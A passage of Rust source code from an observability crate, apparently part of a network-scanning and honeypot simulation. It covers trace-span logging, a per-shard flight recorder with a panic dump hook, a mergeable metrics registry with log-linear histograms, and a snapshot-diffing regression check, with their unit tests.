/// sorted into the canonical `(start, shard, seq)` order.
#[derive(Debug, Clone, Default)]
pub struct TraceLog {
    /// `(shard, span)`, canonically ordered after [`TraceLog::finish`].
    pub spans: Vec<(u32, Span)>,
    /// Total spans emitted across all shards (retained + evicted).
    pub total_emitted: u64,
    /// Spans lost to ring wraparound across all shards.
    pub total_dropped: u64,
}

impl TraceLog {
    /// Fold one shard's ring in. Call [`TraceLog::finish`] after the last.
    pub fn absorb(&mut self, shard: u32, ring: TraceRing) {
        self.total_emitted += ring.emitted();
        self.total_dropped += ring.dropped();
        self.spans.extend(ring.into_spans().into_iter().map(|s| (shard, s)));
    }

    /// Sort into the canonical order. Each `(shard, seq)` pair is unique, so
    /// the order is total and independent of absorb order.
    pub fn finish(&mut self) {
        self.spans
            .sort_by_key(|(shard, s)| (s.start_ms, *shard, s.seq));
    }

    pub fn len(&self) -> usize {
        self.spans.len()
    }

    pub fn is_empty(&self) -> bool {
        self.spans.is_empty()
    }

    /// Render as JSON lines: a header record identifying the run (preset,
    /// shard count), then one record per span. Every line is a
    /// self-contained JSON object carrying the schema version — a consumer
    /// can validate any line in isolation.
    pub fn to_jsonl(&self, preset: &str, shards: u32) -> String {
        let mut out = String::with_capacity(128 + self.spans.len() * 160);
        out.push_str(&format!(
            "{{\"v\":{TRACE_SCHEMA_VERSION},\"kind\":\"trace.header\",\"preset\":\"{preset}\",\"shards\":{shards},\"spans\":{},\"emitted\":{},\"dropped\":{}}}\n",
            self.spans.len(),
            self.total_emitted,
            self.total_dropped
        ));
        for (shard, s) in &self.spans {
            out.push_str(&format!(
                "{{\"v\":{TRACE_SCHEMA_VERSION},\"kind\":\"{}\",\"label\":\"{}\",\"shard\":{shard},\"seq\":{},\"start_ms\":{},\"end_ms\":{},\"src\":\"{}\",\"dst\":\"{}\",\"port\":{},\"bytes\":{}}}\n",
                s.kind,
                s.label,
                s.seq,
                s.start_ms,
                s.end_ms,
                Ipv4Addr::from(s.src),
                Ipv4Addr::from(s.dst),
                s.port,
                s.bytes,
            ));
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn span_at(t: u64) -> Span {
        Span {
            start_ms: t,
            end_ms: t,
            kind: "test",
            label: "x",
            src: 0x0102_0304,
            dst: 0,
            port: 23,
            bytes: 7,
            seq: 0,
        }
    }

    #[test]
    fn ring_keeps_newest() {
        let mut ring = TraceRing::new(4);
        for t in 0..10u64 {
            ring.push(span_at(t));
        }
        assert_eq!(ring.emitted(), 10);
        assert_eq!(ring.dropped(), 6);
        let spans = ring.into_spans();
        assert_eq!(spans.len(), 4);
        // Newest four, oldest retained first, seq matches emission order.
        assert_eq!(spans.iter().map(|s| s.start_ms).collect::<Vec<_>>(), vec![6, 7, 8, 9]);
        assert_eq!(spans.iter().map(|s| s.seq).collect::<Vec<_>>(), vec![6, 7, 8, 9]);
    }

    #[test]
    fn ring_under_capacity_keeps_all() {
        let mut ring = TraceRing::new(100);
        ring.push(span_at(5));
        ring.push(span_at(3));
        assert_eq!(ring.dropped(), 0);
        let spans = ring.into_spans();
        assert_eq!(spans.len(), 2);
        assert_eq!(spans[0].start_ms, 5, "emission order, not time order");
    }

    #[test]
    fn merged_log_order_is_absorb_order_independent() {
        let ring = |times: &[u64]| {
            let mut r = TraceRing::new(16);
            for &t in times {
                r.push(span_at(t));
            }
            r
        };
        let mut ab = TraceLog::default();
        ab.absorb(0, ring(&[1, 5, 5]));
        ab.absorb(1, ring(&[2, 5]));
        ab.finish();
        let mut ba = TraceLog::default();
        ba.absorb(1, ring(&[2, 5]));
        ba.absorb(0, ring(&[1, 5, 5]));
        ba.finish();
        assert_eq!(ab.spans, ba.spans);
        assert_eq!(ab.total_emitted, 5);
        assert_eq!(ab.to_jsonl("quick", 16), ba.to_jsonl("quick", 16));
    }

    #[test]
    fn jsonl_shape() {
        let mut log = TraceLog::default();
        let mut r = TraceRing::new(4);
        r.push(span_at(42));
        log.absorb(3, r);
        log.finish();
        let jsonl = log.to_jsonl("quick", 16);
        let mut lines = jsonl.lines();
        let header = lines.next().unwrap();
        assert!(header.contains("\"trace.header\""));
        assert!(header.contains(&format!("\"v\":{TRACE_SCHEMA_VERSION}")));
        assert!(header.contains("\"preset\":\"quick\""));
        assert!(header.contains("\"shards\":16"));
        let line = lines.next().unwrap();
        assert!(line.contains("\"shard\":3"));
        assert!(line.contains("\"src\":\"1.2.3.4\""));
        assert!(line.contains("\"start_ms\":42"));
        assert!(lines.next().is_none());
    }
}
