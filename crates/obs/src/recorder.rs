//! The flight recorder: a bounded per-shard ring of recent activity —
//! spans, batched metric deltas, fault-window transitions — continuously
//! overwritten at near-zero cost, and dumped to `flight-<shard>.jsonl`
//! when something goes wrong.
//!
//! Two dump triggers:
//!
//! 1. **Panic.** [`install_panic_hook`] chains a hook that dumps the
//!    *panicking thread's* ring. The hook runs on the thread that
//!    panicked, so the thread-local [`crate::ShardObs`] (and with it the
//!    ring) is directly reachable — no cross-thread synchronization, no
//!    locks that might themselves be poisoned.
//! 2. **Fault windows.** The chaos engine calls [`crate::dump_flight`]
//!    when a scheduled fault phase opens or closes, so a run that
//!    *survives* a brownout still leaves a post-mortem artifact of what
//!    the shard was doing around the window.
//!
//! Recording costs one branch plus a ring store; a run that never dumps
//! pays nothing else. The dump itself is volatile (it happens when the
//! wall-clock world intervenes) and is never part of any deterministic
//! artifact.

/// Schema version stamped into every flight-recorder line.
pub const FLIGHT_SCHEMA_VERSION: u32 = 1;

/// Default ring capacity (events kept per shard).
pub const DEFAULT_FLIGHT_CAPACITY: usize = 1024;

/// One compact flight-recorder entry. The `a`/`b` payload fields are
/// kind-specific (span: destination address / bytes; metric: value /
/// auxiliary; fault: phase index / 0).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FlightEvent {
    /// Sim-time of the event, milliseconds since the simulation epoch.
    pub sim_ms: u64,
    /// Entry kind, e.g. `scan.probe`, `metric.events_per_hour`,
    /// `fault.window`.
    pub kind: &'static str,
    /// Kind-specific label (protocol, phase transition, …).
    pub label: &'static str,
    pub a: u64,
    pub b: u64,
}

/// A bounded ring of [`FlightEvent`]s: O(1) push, keeps the newest
/// `capacity` entries (same discipline as [`crate::TraceRing`]).
#[derive(Debug, Clone)]
pub struct FlightRecorder {
    events: Vec<FlightEvent>,
    capacity: usize,
    /// Index the next push overwrites once the ring is full.
    head: usize,
    /// Total events ever pushed.
    recorded: u64,
}

impl FlightRecorder {
    pub fn new(capacity: usize) -> FlightRecorder {
        FlightRecorder {
            events: Vec::new(),
            capacity: capacity.max(1),
            head: 0,
            recorded: 0,
        }
    }

    #[inline]
    pub fn push(&mut self, event: FlightEvent) {
        self.recorded += 1;
        if self.events.len() < self.capacity {
            self.events.push(event);
        } else {
            self.events[self.head] = event;
            self.head = (self.head + 1) % self.capacity;
        }
    }

    /// Total events pushed over the ring's lifetime.
    pub fn recorded(&self) -> u64 {
        self.recorded
    }

    pub fn len(&self) -> usize {
        self.events.len()
    }

    pub fn is_empty(&self) -> bool {
        self.events.is_empty()
    }

    /// The retained events, oldest first. Non-consuming — a panic dump
    /// must not disturb the ring it is reading.
    pub fn iter_ordered(&self) -> impl Iterator<Item = &FlightEvent> {
        let pivot = self.head.min(self.events.len());
        self.events[pivot..].iter().chain(self.events[..pivot].iter())
    }

    /// Render the ring as JSONL: a header naming the shard and the dump
    /// reason, then one line per retained event, oldest first.
    pub fn to_jsonl(&self, shard: u32, reason: &str) -> String {
        let mut out = String::with_capacity(128 + self.events.len() * 96);
        out.push_str(&format!(
            "{{\"v\":{FLIGHT_SCHEMA_VERSION},\"kind\":\"flight.header\",\"shard\":{shard},\
             \"reason\":\"{reason}\",\"recorded\":{},\"kept\":{}}}\n",
            self.recorded,
            self.events.len()
        ));
        for e in self.iter_ordered() {
            out.push_str(&format!(
                "{{\"v\":{FLIGHT_SCHEMA_VERSION},\"kind\":\"{}\",\"label\":\"{}\",\
                 \"sim_ms\":{},\"a\":{},\"b\":{}}}\n",
                e.kind, e.label, e.sim_ms, e.a, e.b
            ));
        }
        out
    }
}

impl Default for FlightRecorder {
    fn default() -> Self {
        FlightRecorder::new(DEFAULT_FLIGHT_CAPACITY)
    }
}

/// Install the panic-dump hook (once per process; subsequent calls are
/// no-ops). The hook dumps the panicking thread's flight ring via
/// [`crate::dump_flight`] — a no-op unless that thread has a `ShardObs`
/// with a dump directory installed — then defers to the previous hook, so
/// default backtrace printing (and any test harness hook) is preserved.
pub fn install_panic_hook() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        let prev = std::panic::take_hook();
        std::panic::set_hook(Box::new(move |info| {
            if let Some(path) = crate::dump_flight("panic") {
                eprintln!("[flight] dumped recent activity to {}", path.display());
            }
            prev(info);
        }));
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ev(t: u64) -> FlightEvent {
        FlightEvent { sim_ms: t, kind: "test", label: "x", a: t * 2, b: 0 }
    }

    #[test]
    fn ring_keeps_newest_in_order() {
        let mut r = FlightRecorder::new(4);
        for t in 0..10 {
            r.push(ev(t));
        }
        assert_eq!(r.recorded(), 10);
        assert_eq!(r.len(), 4);
        let times: Vec<u64> = r.iter_ordered().map(|e| e.sim_ms).collect();
        assert_eq!(times, vec![6, 7, 8, 9]);
        // Non-consuming: a second read sees the same thing.
        let again: Vec<u64> = r.iter_ordered().map(|e| e.sim_ms).collect();
        assert_eq!(again, times);
    }

    #[test]
    fn jsonl_shape() {
        let mut r = FlightRecorder::new(8);
        r.push(ev(42));
        let text = r.to_jsonl(3, "panic");
        let mut lines = text.lines();
        let header = lines.next().unwrap();
        assert!(header.contains("\"flight.header\""));
        assert!(header.contains("\"shard\":3"));
        assert!(header.contains("\"reason\":\"panic\""));
        assert!(header.contains("\"recorded\":1"));
        let line = lines.next().unwrap();
        assert!(line.contains("\"sim_ms\":42"));
        assert!(line.contains("\"a\":84"));
        assert!(lines.next().is_none());
    }

    #[test]
    fn under_capacity_keeps_all() {
        let mut r = FlightRecorder::new(100);
        r.push(ev(5));
        r.push(ev(3));
        assert_eq!(r.len(), 2);
        let times: Vec<u64> = r.iter_ordered().map(|e| e.sim_ms).collect();
        assert_eq!(times, vec![5, 3], "emission order, not time order");
    }
}
