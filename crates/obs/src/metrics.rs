//! The per-shard metric registry: counters, gauges, and log-linear
//! histograms, all keyed by `(name, label)` pairs of static strings.
//!
//! Every shard owns one registry privately for the duration of its
//! simulation, so recording is a plain map update — no atomics, no locks,
//! no cross-thread traffic ("lock-free in spirit"). At the join barrier the
//! per-shard registries are folded together with [`MetricRegistry::absorb`],
//! whose reducers (sum, max, bucket-wise sum) are commutative and
//! associative — the merged registry depends only on the *set* of shard
//! registries, never on merge order or worker scheduling.
//!
//! Accumulation uses multiply–xor-hashed maps (the metric *names* are
//! compile-time constants, not attacker input, so HashDoS resistance buys
//! nothing) because recording sits inside the < 3% overhead budget; the
//! canonical sorted ordering is imposed once, when the snapshot collects
//! keys into `BTreeMap<String, _>`.

use std::collections::{BTreeMap, HashMap};
use std::hash::{BuildHasherDefault, Hasher};
use std::sync::atomic::{AtomicU64, Ordering};

/// A metric key: a static metric name plus an optional static label
/// (protocol, honeypot family, …). The empty label means "unlabeled".
pub type MetricKey = (&'static str, &'static str);

/// Render a key the way the snapshot and docs spell it: `name` or
/// `name{label}`.
pub fn key_string(key: &MetricKey) -> String {
    if key.1.is_empty() {
        key.0.to_string()
    } else {
        format!("{}{{{}}}", key.0, key.1)
    }
}

/// Multiply–xor hasher (the fxhash construction) for [`MetricKey`]s. Fixed
/// function, no per-process random state — iteration order of a [`KeyMap`]
/// is therefore deterministic too, but nothing may rely on it: every
/// ordered view is produced by sorting (see [`crate::MetricsSnapshot`]).
#[derive(Debug, Default, Clone)]
pub struct KeyHasher(u64);

/// Knuth's 64-bit golden-ratio multiplier.
const HASH_SEED: u64 = 0x9E37_79B9_7F4A_7C15;

impl Hasher for KeyHasher {
    #[inline]
    fn finish(&self) -> u64 {
        self.0
    }

    #[inline]
    fn write(&mut self, bytes: &[u8]) {
        let mut chunks = bytes.chunks_exact(8);
        for c in &mut chunks {
            let word = u64::from_le_bytes(c.try_into().unwrap());
            self.0 = (self.0.rotate_left(5) ^ word).wrapping_mul(HASH_SEED);
        }
        let rest = chunks.remainder();
        let mut buf = [0u8; 8];
        buf[..rest.len()].copy_from_slice(rest);
        // Fold in the length so "ab" and "ab\0" differ.
        let word = u64::from_le_bytes(buf) ^ ((rest.len() as u64) << 56);
        self.0 = (self.0.rotate_left(5) ^ word).wrapping_mul(HASH_SEED);
    }

    #[inline]
    fn write_u8(&mut self, n: u8) {
        self.0 = (self.0.rotate_left(5) ^ n as u64).wrapping_mul(HASH_SEED);
    }
}

/// The registry's accumulation map: hashed for recording speed; sorted
/// views are built at snapshot time.
pub type KeyMap<V> = HashMap<MetricKey, V, BuildHasherDefault<KeyHasher>>;

/// A log-linear histogram: exact unit buckets below 16, then four linear
/// sub-buckets per power of two. Bucket indices fit in a `u8` for the whole
/// `u64` range; the relative width of any bucket is at most 25%.
///
/// The layout is fixed by construction (not configurable), so histograms
/// recorded on different shards merge bucket-for-bucket.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Histogram {
    pub count: u64,
    pub sum: u64,
    pub min: u64,
    pub max: u64,
    /// bucket index -> count, only touched buckets present.
    pub buckets: BTreeMap<u8, u64>,
}

/// Number of exact unit buckets (values 0..16 map to themselves).
const LINEAR_CUTOFF: u64 = 16;

/// Map a value to its bucket index.
#[inline]
pub fn bucket_index(v: u64) -> u8 {
    if v < LINEAR_CUTOFF {
        return v as u8;
    }
    // exp >= 4 because v >= 16; two sub-bucket bits below the leading bit.
    let exp = 63 - v.leading_zeros() as u64;
    let sub = (v >> (exp - 2)) & 0b11;
    (LINEAR_CUTOFF + (exp - 4) * 4 + sub) as u8
}

/// Inclusive lower bound of a bucket — the value the snapshot reports for
/// the bucket.
pub fn bucket_lower_bound(idx: u8) -> u64 {
    let idx = idx as u64;
    if idx < LINEAR_CUTOFF {
        return idx;
    }
    let exp = 4 + (idx - LINEAR_CUTOFF) / 4;
    let sub = (idx - LINEAR_CUTOFF) % 4;
    (4 + sub) << (exp - 2)
}

impl Histogram {
    pub fn record(&mut self, v: u64) {
        if self.count == 0 {
            self.min = v;
            self.max = v;
        } else {
            self.min = self.min.min(v);
            self.max = self.max.max(v);
        }
        self.count += 1;
        self.sum = self.sum.saturating_add(v);
        *self.buckets.entry(bucket_index(v)).or_insert(0) += 1;
    }

    /// Arithmetic mean (0 for an empty histogram).
    pub fn mean(&self) -> f64 {
        if self.count == 0 {
            0.0
        } else {
            self.sum as f64 / self.count as f64
        }
    }

    /// Approximate quantile: the lower bound of the bucket containing the
    /// q-th recorded value. `q` in [0, 1].
    pub fn quantile(&self, q: f64) -> u64 {
        if self.count == 0 {
            return 0;
        }
        let rank = ((q.clamp(0.0, 1.0) * self.count as f64).ceil() as u64).max(1);
        let mut seen = 0u64;
        for (&idx, &n) in &self.buckets {
            seen += n;
            if seen >= rank {
                return bucket_lower_bound(idx);
            }
        }
        self.max
    }

    /// Bucket-wise merge. Commutative and associative.
    pub fn absorb(&mut self, other: &Histogram) {
        if other.count == 0 {
            return;
        }
        if self.count == 0 {
            self.min = other.min;
            self.max = other.max;
        } else {
            self.min = self.min.min(other.min);
            self.max = self.max.max(other.max);
        }
        self.count += other.count;
        self.sum = self.sum.saturating_add(other.sum);
        for (&idx, &n) in &other.buckets {
            *self.buckets.entry(idx).or_insert(0) += n;
        }
    }
}

/// A lock-free histogram with the same log-linear bucket layout as
/// [`Histogram`], for recording from many threads at once (the QueryEngine
/// records wall-clock query latencies through a shared `&self`).
///
/// All updates are relaxed atomics: the histogram is *volatile* by
/// construction (it measures wall time), so cross-field consistency under
/// concurrent snapshots is not required — only that every recorded value
/// lands in exactly one bucket and the count/sum totals match the records.
#[derive(Debug)]
pub struct AtomicHistogram {
    count: AtomicU64,
    sum: AtomicU64,
    min: AtomicU64,
    max: AtomicU64,
    buckets: [AtomicU64; 256],
}

impl Default for AtomicHistogram {
    fn default() -> Self {
        AtomicHistogram {
            count: AtomicU64::new(0),
            sum: AtomicU64::new(0),
            min: AtomicU64::new(u64::MAX),
            max: AtomicU64::new(0),
            buckets: [const { AtomicU64::new(0) }; 256],
        }
    }
}

impl AtomicHistogram {
    pub fn new() -> AtomicHistogram {
        AtomicHistogram::default()
    }

    #[inline]
    pub fn record(&self, v: u64) {
        self.count.fetch_add(1, Ordering::Relaxed);
        // Saturating, to match `Histogram::record` — `fetch_add` would wrap.
        let _ = self
            .sum
            .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |s| {
                Some(s.saturating_add(v))
            });
        self.min.fetch_min(v, Ordering::Relaxed);
        self.max.fetch_max(v, Ordering::Relaxed);
        self.buckets[bucket_index(v) as usize].fetch_add(1, Ordering::Relaxed);
    }

    pub fn count(&self) -> u64 {
        self.count.load(Ordering::Relaxed)
    }

    /// Materialize into a plain [`Histogram`] (empty stays empty, with
    /// `min` normalized back to 0).
    pub fn snapshot(&self) -> Histogram {
        let count = self.count.load(Ordering::Relaxed);
        if count == 0 {
            return Histogram::default();
        }
        Histogram {
            count,
            sum: self.sum.load(Ordering::Relaxed),
            min: self.min.load(Ordering::Relaxed),
            max: self.max.load(Ordering::Relaxed),
            buckets: self
                .buckets
                .iter()
                .enumerate()
                .filter_map(|(idx, n)| {
                    let n = n.load(Ordering::Relaxed);
                    (n > 0).then_some((idx as u8, n))
                })
                .collect(),
        }
    }
}

/// One shard's (or the coordinator's) private metric store.
#[derive(Debug, Clone, Default)]
pub struct MetricRegistry {
    counters: KeyMap<u64>,
    gauges: KeyMap<u64>,
    histograms: KeyMap<Histogram>,
}

impl MetricRegistry {
    pub fn new() -> MetricRegistry {
        MetricRegistry::default()
    }

    /// Add `n` to a counter.
    #[inline]
    pub fn count(&mut self, name: &'static str, label: &'static str, n: u64) {
        *self.counters.entry((name, label)).or_insert(0) += n;
    }

    /// Raise a high-water-mark gauge to at least `v`. Merged with `max`,
    /// which is the only order-independent gauge reduction.
    #[inline]
    pub fn gauge_max(&mut self, name: &'static str, label: &'static str, v: u64) {
        let g = self.gauges.entry((name, label)).or_insert(0);
        *g = (*g).max(v);
    }

    /// Record one observation into a histogram.
    #[inline]
    pub fn observe(&mut self, name: &'static str, label: &'static str, v: u64) {
        self.histograms.entry((name, label)).or_default().record(v);
    }

    /// Fold a locally-accumulated histogram into a named one. This is the
    /// batched form of [`MetricRegistry::observe`] for hot paths: record
    /// into a private [`Histogram`] (no key lookup per sample), then absorb
    /// it once. No-op for an empty histogram.
    pub fn absorb_histogram(&mut self, name: &'static str, label: &'static str, h: &Histogram) {
        if h.count > 0 {
            self.histograms.entry((name, label)).or_default().absorb(h);
        }
    }

    pub fn counter(&self, name: &'static str, label: &'static str) -> u64 {
        self.counters.get(&(name, label)).copied().unwrap_or(0)
    }

    pub fn gauge(&self, name: &'static str, label: &'static str) -> u64 {
        self.gauges.get(&(name, label)).copied().unwrap_or(0)
    }

    pub fn histogram(&self, name: &'static str, label: &'static str) -> Option<&Histogram> {
        self.histograms.get(&(name, label))
    }

    /// The raw counter map. Unordered — callers needing a canonical order
    /// must sort (the snapshot collects into `BTreeMap<String, _>`).
    pub fn counters(&self) -> &KeyMap<u64> {
        &self.counters
    }

    /// The raw gauge map (unordered; see [`MetricRegistry::counters`]).
    pub fn gauges(&self) -> &KeyMap<u64> {
        &self.gauges
    }

    /// The raw histogram map (unordered; see [`MetricRegistry::counters`]).
    pub fn histograms(&self) -> &KeyMap<Histogram> {
        &self.histograms
    }

    pub fn is_empty(&self) -> bool {
        self.counters.is_empty() && self.gauges.is_empty() && self.histograms.is_empty()
    }

    /// Fold another registry in: counters sum, gauges max, histograms merge
    /// bucket-wise. Order-independent by construction.
    pub fn absorb(&mut self, other: &MetricRegistry) {
        for (k, v) in &other.counters {
            *self.counters.entry(*k).or_insert(0) += v;
        }
        for (k, v) in &other.gauges {
            let g = self.gauges.entry(*k).or_insert(0);
            *g = (*g).max(*v);
        }
        for (k, h) in &other.histograms {
            self.histograms.entry(*k).or_default().absorb(h);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bucket_index_is_monotone_and_bounded() {
        let mut last = 0u8;
        for v in 0..100_000u64 {
            let idx = bucket_index(v);
            assert!(idx >= last, "bucket index must be monotone at {v}");
            assert!(bucket_lower_bound(idx) <= v, "lower bound exceeds value at {v}");
            last = idx;
        }
        // The whole u64 range fits in u8 indices.
        assert!(bucket_index(u64::MAX) == 255);
        assert_eq!(bucket_lower_bound(bucket_index(0)), 0);
    }

    #[test]
    fn bucket_relative_error_bounded() {
        // The bucket lower bound is never more than 25% below the value.
        for shift in 4u32..62 {
            for off in [0u64, 1, 3, 7] {
                let v = (1u64 << shift) + (off << (shift.saturating_sub(3)));
                let lb = bucket_lower_bound(bucket_index(v));
                assert!(lb <= v);
                assert!((v - lb) as f64 <= 0.25 * v as f64, "v={v} lb={lb}");
            }
        }
    }

    #[test]
    fn unit_buckets_are_exact() {
        for v in 0..16u64 {
            assert_eq!(bucket_index(v) as u64, v);
            assert_eq!(bucket_lower_bound(v as u8), v);
        }
    }

    #[test]
    fn histogram_stats() {
        let mut h = Histogram::default();
        for v in [1u64, 2, 3, 100] {
            h.record(v);
        }
        assert_eq!(h.count, 4);
        assert_eq!(h.sum, 106);
        assert_eq!(h.min, 1);
        assert_eq!(h.max, 100);
        assert_eq!(h.quantile(0.5), 2);
        assert!(h.mean() > 26.0 && h.mean() < 27.0);
    }

    #[test]
    fn registry_merge_is_order_independent() {
        let mk = |vals: &[u64]| {
            let mut r = MetricRegistry::new();
            for &v in vals {
                r.count("c", "x", v);
                r.gauge_max("g", "", v);
                r.observe("h", "y", v);
            }
            r
        };
        let a = mk(&[1, 2, 3]);
        let b = mk(&[10, 20]);
        let c = mk(&[7]);
        let mut abc = MetricRegistry::new();
        abc.absorb(&a);
        abc.absorb(&b);
        abc.absorb(&c);
        let mut cba = MetricRegistry::new();
        cba.absorb(&c);
        cba.absorb(&b);
        cba.absorb(&a);
        assert_eq!(abc.counter("c", "x"), cba.counter("c", "x"));
        assert_eq!(abc.counter("c", "x"), 43);
        assert_eq!(abc.gauge("g", ""), 20);
        assert_eq!(abc.histogram("h", "y"), cba.histogram("h", "y"));
    }

    #[test]
    fn key_strings() {
        assert_eq!(key_string(&("scan.probe.sent", "telnet")), "scan.probe.sent{telnet}");
        assert_eq!(key_string(&("net.events", "")), "net.events");
    }

    #[test]
    fn atomic_histogram_matches_plain_histogram() {
        let atomic = AtomicHistogram::new();
        let mut plain = Histogram::default();
        for v in [0u64, 1, 15, 16, 100, 1_000_000, u64::MAX] {
            atomic.record(v);
            plain.record(v);
        }
        assert_eq!(atomic.snapshot(), plain);
        assert_eq!(atomic.count(), 7);
        assert_eq!(AtomicHistogram::new().snapshot(), Histogram::default());
    }

    #[test]
    fn atomic_histogram_concurrent_records_all_land() {
        let h = std::sync::Arc::new(AtomicHistogram::new());
        std::thread::scope(|s| {
            for t in 0..4u64 {
                let h = h.clone();
                s.spawn(move || {
                    for i in 0..1000u64 {
                        h.record(t * 1000 + i);
                    }
                });
            }
        });
        let snap = h.snapshot();
        assert_eq!(snap.count, 4000);
        assert_eq!(snap.min, 0);
        assert_eq!(snap.max, 3999);
        assert_eq!(snap.buckets.values().sum::<u64>(), 4000);
    }
}
