//! The regression sentinel: cross-run snapshot diffing.
//!
//! Two snapshots of the same `(seed, preset, shards)` must agree **byte
//! for byte** outside the volatile `host` section — that is the repo's
//! determinism contract, and [`diff_snapshots`] enforces it exactly: the
//! deterministic sections are compared field-by-field (for actionable
//! messages) *and* byte-compared after [`MetricsSnapshot::zero_wall_clock`]
//! (so structural drift no field check anticipated still fails).
//!
//! The `host` section is machine-dependent by design, so it is only ever
//! *threshold*-compared, and only when the caller asks
//! ([`DiffOptions::volatile_pct`]): on a shared CI box, wall-clock noise
//! makes any default volatile gate flaky. Volatile observations are always
//! reported, never silently dropped.
//!
//! `openforhire obsdiff a.json b.json` is the CLI face of this module and
//! exits nonzero on any deterministic drift; ci.sh runs it as a gate.

use std::collections::BTreeMap;

use crate::snapshot::{HistogramSnapshot, MetricsSnapshot};

/// Diff tuning.
#[derive(Debug, Clone, Default)]
pub struct DiffOptions {
    /// When set, volatile quantities (profile wall time, pool hit counts,
    /// latency histogram means) whose relative difference exceeds this
    /// fraction (e.g. `0.25` = 25%) are reported as failures. `None` =
    /// report volatile differences informationally only.
    pub volatile_pct: Option<f64>,
}

/// The outcome of a snapshot comparison.
#[derive(Debug, Clone, Default)]
pub struct SnapshotDiff {
    /// Deterministic-section drift: any entry here is a contract
    /// violation.
    pub deterministic: Vec<String>,
    /// Volatile quantities that exceeded [`DiffOptions::volatile_pct`].
    pub volatile_exceeded: Vec<String>,
    /// Volatile observations within threshold (informational).
    pub volatile_notes: Vec<String>,
}

impl SnapshotDiff {
    /// No drift that should fail a gate.
    pub fn clean(&self) -> bool {
        self.deterministic.is_empty() && self.volatile_exceeded.is_empty()
    }

    /// Human-readable report (what `obsdiff` prints).
    pub fn render(&self) -> String {
        let mut out = String::new();
        if self.deterministic.is_empty() {
            out.push_str("deterministic sections: identical\n");
        } else {
            out.push_str(&format!(
                "deterministic sections: {} divergence(s)\n",
                self.deterministic.len()
            ));
            for line in &self.deterministic {
                out.push_str(&format!("  DRIFT {line}\n"));
            }
        }
        for line in &self.volatile_exceeded {
            out.push_str(&format!("  VOLATILE-EXCEEDED {line}\n"));
        }
        for line in &self.volatile_notes {
            out.push_str(&format!("  volatile {line}\n"));
        }
        out
    }
}

/// Relative difference in `[0, 1]` (0 when both are 0).
fn rel(a: u64, b: u64) -> f64 {
    let hi = a.max(b);
    if hi == 0 {
        0.0
    } else {
        (a.abs_diff(b)) as f64 / hi as f64
    }
}

fn diff_maps(
    section: &str,
    a: &BTreeMap<String, u64>,
    b: &BTreeMap<String, u64>,
    out: &mut Vec<String>,
) {
    for (k, va) in a {
        match b.get(k) {
            None => out.push(format!("{section} `{k}`: {va} vs missing")),
            Some(vb) if va != vb => out.push(format!("{section} `{k}`: {va} vs {vb}")),
            Some(_) => {}
        }
    }
    for (k, vb) in b {
        if !a.contains_key(k) {
            out.push(format!("{section} `{k}`: missing vs {vb}"));
        }
    }
}

fn diff_hist(name: &str, a: &HistogramSnapshot, b: &HistogramSnapshot, out: &mut Vec<String>) {
    if a == b {
        return;
    }
    if a.count != b.count || a.sum != b.sum {
        out.push(format!(
            "histogram `{name}`: count/sum {}/{} vs {}/{}",
            a.count, a.sum, b.count, b.sum
        ));
    } else {
        out.push(format!("histogram `{name}`: bucket layout differs at equal count/sum"));
    }
}

/// The canonical bytes of a snapshot's deterministic sections.
fn deterministic_bytes(s: &MetricsSnapshot) -> String {
    let mut c = s.clone();
    c.zero_wall_clock();
    serde_json::to_string(&c).expect("snapshot serializes")
}

/// Compare two snapshots: exact on deterministic sections, threshold on
/// the volatile `host` section.
pub fn diff_snapshots(
    a: &MetricsSnapshot,
    b: &MetricsSnapshot,
    opts: &DiffOptions,
) -> SnapshotDiff {
    let mut d = SnapshotDiff::default();

    // Identity fields: a mismatch here means the two runs are not even
    // comparable — reported as drift so a gate can never accidentally
    // bless an apples-to-oranges comparison.
    if a.schema_version != b.schema_version {
        d.deterministic
            .push(format!("schema_version: {} vs {}", a.schema_version, b.schema_version));
    }
    if a.preset != b.preset {
        d.deterministic.push(format!("preset: `{}` vs `{}`", a.preset, b.preset));
    }
    if a.seed != b.seed {
        d.deterministic.push(format!("seed: {} vs {}", a.seed, b.seed));
    }
    if a.shards != b.shards {
        d.deterministic.push(format!("shards: {} vs {}", a.shards, b.shards));
    }

    diff_maps("counter", &a.counters, &b.counters, &mut d.deterministic);
    diff_maps("gauge", &a.gauges, &b.gauges, &mut d.deterministic);
    for (k, ha) in &a.histograms {
        match b.histograms.get(k) {
            None => d.deterministic.push(format!("histogram `{k}`: present vs missing")),
            Some(hb) => diff_hist(k, ha, hb, &mut d.deterministic),
        }
    }
    for k in b.histograms.keys() {
        if !a.histograms.contains_key(k) {
            d.deterministic.push(format!("histogram `{k}`: missing vs present"));
        }
    }
    if a.per_shard_events != b.per_shard_events {
        let first = a
            .per_shard_events
            .iter()
            .zip(&b.per_shard_events)
            .position(|(x, y)| x != y);
        d.deterministic.push(match first {
            Some(i) => format!(
                "per_shard_events[{i}]: {} vs {}",
                a.per_shard_events[i], b.per_shard_events[i]
            ),
            None => format!(
                "per_shard_events length: {} vs {}",
                a.per_shard_events.len(),
                b.per_shard_events.len()
            ),
        });
    }
    // Belt and braces: the byte-level check catches structural drift the
    // field walks above do not know about (new fields, ordering).
    if d.deterministic.is_empty() && deterministic_bytes(a) != deterministic_bytes(b) {
        d.deterministic
            .push("deterministic sections serialize to different bytes (structural drift)".into());
    }

    // Volatile section: always describe, fail only when thresholded.
    if a.host.workers != b.host.workers {
        d.volatile_notes
            .push(format!("workers: {} vs {} (execution knob)", a.host.workers, b.host.workers));
    }
    let mut volatile = |what: String, r: f64| match opts.volatile_pct {
        Some(pct) if r > pct => d.volatile_exceeded.push(format!("{what} ({:.1}% apart)", r * 100.0)),
        _ => d.volatile_notes.push(what),
    };
    volatile(
        format!("pool_hits: {} vs {}", a.host.pool_hits, b.host.pool_hits),
        rel(a.host.pool_hits, b.host.pool_hits),
    );
    volatile(
        format!(
            "profile wall: {:.1}ms vs {:.1}ms",
            a.host.profile.wall_ns as f64 / 1e6,
            b.host.profile.wall_ns as f64 / 1e6
        ),
        rel(a.host.profile.wall_ns, b.host.profile.wall_ns),
    );
    for (k, ha) in &a.host.latency {
